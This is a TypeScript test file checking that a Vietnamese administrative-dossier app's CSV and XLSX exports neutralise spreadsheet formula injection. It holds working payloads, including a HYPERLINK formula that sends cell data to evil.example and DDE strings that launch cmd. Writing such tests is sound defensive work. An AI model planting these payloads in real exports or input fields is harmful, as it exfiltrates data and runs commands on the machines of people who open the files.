import ExcelJS from "exceljs";
import JSZip from "jszip";
import { describe, expect, it } from "vitest";
import { registerToXlsx, reportsToXlsx } from "../../../local/cli/xlsx.ts";
import { instantOfLocal, parseIsoDate } from "../../../shared/calendar/index.ts";
import {
  type Dossier,
  type DossierEventJson,
  foldAsOf,
  groupByDossier,
  parseDossierEvent,
} from "../../../shared/dossier/index.ts";
import { neutraliseFormula } from "../../../shared/reports/columns.ts";
import {
  buildRegister,
  buildReport,
  DIMENSIONS,
  InMemoryCounterStore,
  rebuildDeltas,
  registerToCsv,
  reportToCsv,
  reportToXlsx,
} from "../../../shared/reports/index.ts";
import { working } from "./fixtures.ts";

/**
 * Spreadsheet formula injection (OWASP "CSV injection"; docs/security.md): names an attacker controls
 * reach every text column of the CSV and XLSX exports — agency, unit, procedure and handler
 * labels, the register's applicant and note — and none may start a formula: in the CLI's exceljs
 * workbooks and in the API's live XLSX (xlsx-lite) alike.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
];
const FORMULA_START = /^[\s]*[=+\-@\t\r\n]/;

const AT = "2026-11-02T09:00:00+07:00";
const events = PAYLOADS.map((payload, i) => {
  const code = `000.00.12.H42-261102-${String(i).padStart(4, "0")}`;
  return {
    id: `${code}#received`,
    type: "received",
    dossierCode: code,
    occurredAt: AT,
    receivedAt: AT,
    procedure: { code: `p-${i}`, name: `${payload} thủ tục`, timeLimit: { amount: 3, unit: "working-days" } },
    agency: { id: `agency-${i}`, name: payload.replace(/^[\t\r]/, "=") },
    unit: { id: `unit-${i}`, name: `${payload} đơn vị` },
    channel: "online",
    applicant: { name: `${payload} người nộp`, consent: { sms: false, email: false } },
    handler: { id: `h-${i}`, name: `${payload} cán bộ` },
  } as unknown as DossierEventJson;
});

describe("formula injection in the exports", () => {
  // Tabs and CRs never get this far: the event schema refuses control characters. The rest do.
  const parsed = events.flatMap((event) => {
    try {
      return [parseDossierEvent(event)];
    } catch {
      return [];
    }
  });
  const store = new InMemoryCounterStore();
  store.applySync(rebuildDeltas(parsed, working));
  const query = { from: "2026-11-01", to: "2026-11-30" };
  const reports = DIMENSIONS.map((by) =>
    buildReport(
      store.agencyIds().flatMap((agency) => store.readSync(agency, query.from, query.to)),
      { ...query, by },
    ),
  );
  const asOf = instantOfLocal(parseIsoDate("2026-12-01"), 0) - 1;
  const dossiers = [...groupByDossier(parsed).values()]
    .map((list) => foldAsOf(list, asOf, working))
    .filter((dossier): dossier is Dossier => dossier !== undefined);
  const register = buildRegister(dossiers, { ...query, asOf }, working);

  it("neutralises every payload with a leading apostrophe, and leaves ordinary text alone", () => {
    for (const payload of PAYLOADS) expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    for (const text of ["Nguyễn Văn An", "Sở Tư pháp", "1.004227", "'=already quoted"]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it("reaches the exports with the hostile names (the attack is real)", () => {
    expect(parsed.length).toBeGreaterThanOrEqual(PAYLOADS.length - 2);
    expect(register.length).toBe(parsed.length);
    expect(reports.every((report) => report.lines.length === parsed.length)).toBe(true);
  });

  /** Splits ";"-separated CSV lines into cells (quoted cells unquoted). */
  const cellsOf = (csv: string) =>
    csv
      .slice(1)
      .split("\r\n")
      .filter(Boolean)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [])
      .map((cell) => cell.replace(/;$/, "").replace(/^"|"$/g, "").replaceAll('""', '"'));

  it("starts no CSV cell with a formula character, in every report and the register", () => {
    for (const csv of [...reports.map((report) => reportToCsv(report)), registerToCsv(register)]) {
      const cells = cellsOf(csv);
      expect(cells.some((cell) => cell.includes("HYPERLINK"))).toBe(true);
      const starting = cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d/.test(cell));
      expect(starting).toEqual([]);
    }
  });

  it("writes no formula into the XLSX, and no text cell starts like one", async () => {
    const live = reports.map((report) => Buffer.from(reportToXlsx(report)));
    for (const buffer of [await reportsToXlsx(reports), await registerToXlsx(register, query), ...live]) {
      const zip = await JSZip.loadAsync(buffer);
      for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))) {
        expect(await zip.file(name)!.async("string")).not.toMatch(/<f[\s>]/);
      }
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
      const texts: string[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === "string") texts.push(cell.value);
          }),
        ),
      );
      expect(texts.some((text) => text.includes("HYPERLINK"))).toBe(true);
      expect(texts.filter((text) => FORMULA_START.test(text))).toEqual([]);
    }
  });
});
